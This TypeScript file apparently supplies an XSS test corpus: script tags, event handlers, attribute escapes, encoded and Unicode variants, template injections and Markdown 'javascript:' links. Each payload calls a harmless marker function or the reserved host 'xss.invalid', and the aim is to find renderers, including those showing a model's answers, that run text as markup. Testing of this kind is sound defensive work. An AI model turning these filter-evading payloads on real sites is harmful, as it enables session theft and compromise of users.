/** A host nobody has: whatever asks it was taken for an address that is loaded. */
export const XSS_HOST = 'xss.invalid'

const CALL = 'ppRan()'
const FAR = `//${XSS_HOST}/a`

/** Elements that run something by themselves. */
const ELEMENTS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=${FAR}.js></script>`,
  `<script type=module>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script>`,
  `<script>${CALL}`,
  `</script><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src=${FAR}></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data=${FAR}></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src=${FAR}>`,
  `<base href=${FAR}/>`,
  `<link rel=stylesheet href=${FAR}.css>`,
  `<link rel=import href=${FAR}>`,
  `<style>@import '${FAR}.css'</style>`,
  `<style>*{background:url(${FAR})}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=https:${FAR}">`,
  `<form action="javascript:${CALL}"><button autofocus>go</button></form>`,
  `<form action=${FAR}><input type=submit></form>`,
  `<portal src=${FAR}></portal>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x=9 y=9>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"></use></svg>`,
  `<svg><animate attributeName=href values="javascript:${CALL}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
]

/** Attributes that are run when something happens to their element, most of it at once. */
const HANDLERS: readonly string[] = [
  ...['img', 'IMG', 'image', 'video', 'audio', 'source', 'input type=image', 'link rel=stylesheet'].map(
    (element) => `<${element} src=x href=x onerror=${CALL}>`,
  ),
  ...['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onresize', 'onscroll', 'onmessage'].map(
    (name) => `<body ${name}=${CALL}>`,
  ),
  ...['svg', 'style', 'iframe', 'link rel=stylesheet href=data:,'].map(
    (element) => `<${element} onload=${CALL}>`,
  ),
  ...['input', 'select', 'textarea', 'button', 'a href=# tabindex=1', 'div contenteditable tabindex=1'].map(
    (element) => `<${element} autofocus onfocus=${CALL}>`,
  ),
  ...['onanimationstart', 'onanimationend', 'onwebkitanimationend'].map(
    (name) => `<p style="animation:spin 1ms" ${name}=${CALL}>`,
  ),
  ...['ontransitionrun', 'ontransitionend'].map((name) => `<p style="transition:all 1ms" ${name}=${CALL}>`),
  `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<video autoplay onloadstart=${CALL}><source src=x></video>`,
  `<audio src onloadstart=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributename=x to=1>`,
  `<img src=x onerror="${CALL}">`,
  `<img src=x onerror='${CALL}'>`,
  `<img src=x onerror=&#112;&#112;Ran()>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror\n=\n${CALL}>`,
  `<img src=x\tonerror=${CALL}>`,
  `<img src=x\u000conerror=${CALL}>`,
  `<img src="x" title="'"onerror="${CALL}">`,
  `<<img src=x onerror=${CALL}>`,
  `<img src=x:x onerror=${CALL}//`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img srcset="${FAR} 1x">`,
  `<img src=${FAR}.png>`,
  `<picture><source srcset=${FAR}><img></picture>`,
  `<video poster=${FAR}>`,
  `<input type=image src=${FAR}>`,
  `<div style="background:url(${FAR})">`,
  `<table background=${FAR}>`,
]

/** What leaves the attribute or the text it was put into. */
const ESCAPES: readonly string[] = [
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  `" onmouseover=${CALL} style="position:fixed;inset:0" x="`,
  `x onerror=${CALL}`,
  `"/><img src=x onerror=${CALL}>`,
  `\\"><img src=x onerror=${CALL}>`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\u2028${CALL}\u2029`,
  `';${CALL};//`,
  `";${CALL};//`,
  `\`;${CALL};//`,
  `\${${CALL}}`,
  `{{${CALL}}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `</script>\u0000<script>${CALL}</script>`,
  `\u202e<script>${CALL}</script>`,
]

/** Markdown, as a model's answer is shown; the addresses are written in ways that hide their scheme. */
const MARKDOWN: readonly string[] = [
  ...[
    `javascript:${CALL}`,
    `JaVaScRiPt:${CALL}`,
    `java\tscript:${CALL}`,
    `java&#10;script:${CALL}`,
    `&#106;avascript:${CALL}`,
    `javascript&colon;${CALL}`,
    `%6aavascript:${CALL}`,
    `\u0001javascript:${CALL}`,
    `vbscript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
    'data:text/html;base64,PHNjcmlwdD5wcFJhbigpPC9zY3JpcHQ+',
    `blob:https:${FAR}`,
    `file:///etc/passwd`,
  ].flatMap((address) => [`[go](${address})`, `![see](${address})`]),
  `![see](https:${FAR}.png)`,
  `![see][far]\n\n[far]: https:${FAR}.png`,
  `[go][bad]\n\n[bad]: javascript:${CALL}`,
  `<javascript:${CALL}>`,
  `[a](<javascript:${CALL}>)`,
  `[a](javascript:${CALL} "title")`,
  `[<img src=x onerror=${CALL}>](#)`,
  `**<img src=x onerror=${CALL}>**`,
  `\`\`\`html\n<script>${CALL}</script>\n\`\`\``,
  `> <img src=x onerror=${CALL}>`,
  `| <img src=x onerror=${CALL}> |\n| --- |\n| a |`,
  `[^1]: <img src=x onerror=${CALL}>`,
]

/** What would run in a page that took text for markup; each says its number, so that it can be found on a screen. */
export const SCRIPTS: readonly string[] = [...ELEMENTS, ...HANDLERS, ...ESCAPES, ...MARKDOWN].map(
  (text, index) => `pp${index}e ${text}`,
)
